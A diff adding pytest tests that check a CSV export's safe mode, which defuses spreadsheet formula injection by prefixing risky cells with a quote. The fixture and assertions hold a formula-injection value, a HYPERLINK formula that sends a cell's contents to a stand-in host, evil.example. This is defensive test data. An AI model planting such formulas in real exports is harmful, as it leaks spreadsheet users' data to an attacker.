@@ -144,3 +144,51 @@ def test_csv_of_no_claims_is_just_the_header(client):
     response = client.get("/v1/claims.csv")
 
     assert response.text == ",".join(csvout.COLUMNS) + "\r\n"
+
+
+@pytest.fixture
+def formula_claims(make_claim):
+    """Claims whose text a spreadsheet would run as formulas."""
+    return [
+        make_claim(
+            statement='=HYPERLINK("http://evil.example/?"&B2, "source")',
+            quote="+1 more tariff",
+            claimant="@bessent",
+            claimant_role="-official",
+        ),
+        make_claim(statement="Plain statement = no formula", claimant="Scott Bessent"),
+    ]
+
+
+def test_safe_csv_prefixes_cells_that_start_like_a_formula(client, formula_claims):
+    rows = parse(client.get("/v1/claims.csv?safe=true&sort=id"))
+
+    assert rows[0]["statement"] == "'=HYPERLINK(\"http://evil.example/?\"&B2, \"source\")"
+    assert (rows[0]["quote"], rows[0]["claimant"]) == ("'+1 more tariff", "'@bessent")
+    assert rows[0]["claimant_role"] == "'-official"
+    assert rows[1]["statement"] == "Plain statement = no formula"
+    assert rows[1]["due_by"] == "2025-12-31"
+
+
+def test_csv_without_safe_keeps_formula_cells_exact(client, formula_claims):
+    rows = parse(client.get("/v1/claims.csv?sort=id"))
+
+    assert rows[0]["statement"] == '=HYPERLINK("http://evil.example/?"&B2, "source")'
+    assert rows[0]["claimant"] == "@bessent"
+
+
+def test_safe_csv_has_its_own_etag(client, formula_claims):
+    exact = client.get("/v1/claims.csv")
+    safe = client.get("/v1/claims.csv?safe=true")
+
+    assert exact.headers["etag"] != safe.headers["etag"]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_safe_mode_defuses_every_formula_start(text):
+    assert csvout.defused(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["", "a=1", " =1", "'=1", "2025-10-30"])
+def test_safe_mode_leaves_other_cells_alone(text):
+    assert csvout.defused(text) == text
